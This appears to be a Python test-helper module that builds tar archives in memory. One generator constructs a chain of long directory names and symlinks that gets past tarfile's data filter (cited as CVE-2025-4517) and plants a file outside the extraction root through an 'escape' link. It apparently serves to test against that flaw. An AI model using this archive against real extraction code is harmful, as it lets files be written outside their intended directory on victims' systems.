"""Tar archives, whatever is in them."""

from __future__ import annotations

import io
import tarfile
from collections.abc import Iterator


def member(name: str, data: bytes = b"x", **fields: object) -> tuple[tarfile.TarInfo, bytes]:
    """A member of an archive; `fields` are TarInfo's."""
    found = tarfile.TarInfo(name)
    found.size = len(data)
    for key, value in fields.items():
        setattr(found, key, value)
    return found, data


def archive(*members: tuple[tarfile.TarInfo, bytes], form: int = tarfile.GNU_FORMAT) -> bytes:
    """A tar with these members, whatever they are."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=form) as tar:
        for found, data in members:
            tar.addfile(found, io.BytesIO(data) if found.isreg() else None)
    return out.getvalue()


def links_past_path_max() -> Iterator[tuple[tarfile.TarInfo, bytes]]:
    """Members by which tarfile's data filter loses sight of where a path leads (CVE-2025-4517)."""
    part, path = "d" * 247, ""
    for letter in "abcdefghijklmnop":
        yield member(f"{path}{part}", b"", type=tarfile.DIRTYPE, mode=0o755)
        yield member(f"{path}{letter}", b"", type=tarfile.SYMTYPE, linkname=part)
        path += f"{part}/"
    short = "/".join("abcdefghijklmnop")
    yield member(f"{short}/{'l' * 254}", b"", type=tarfile.SYMTYPE, linkname="../" * 16)
    yield member("escape", b"", type=tarfile.SYMTYPE, linkname=f"{short}/{'l' * 254}/../..")
    yield member("escape/planted", b"planted")
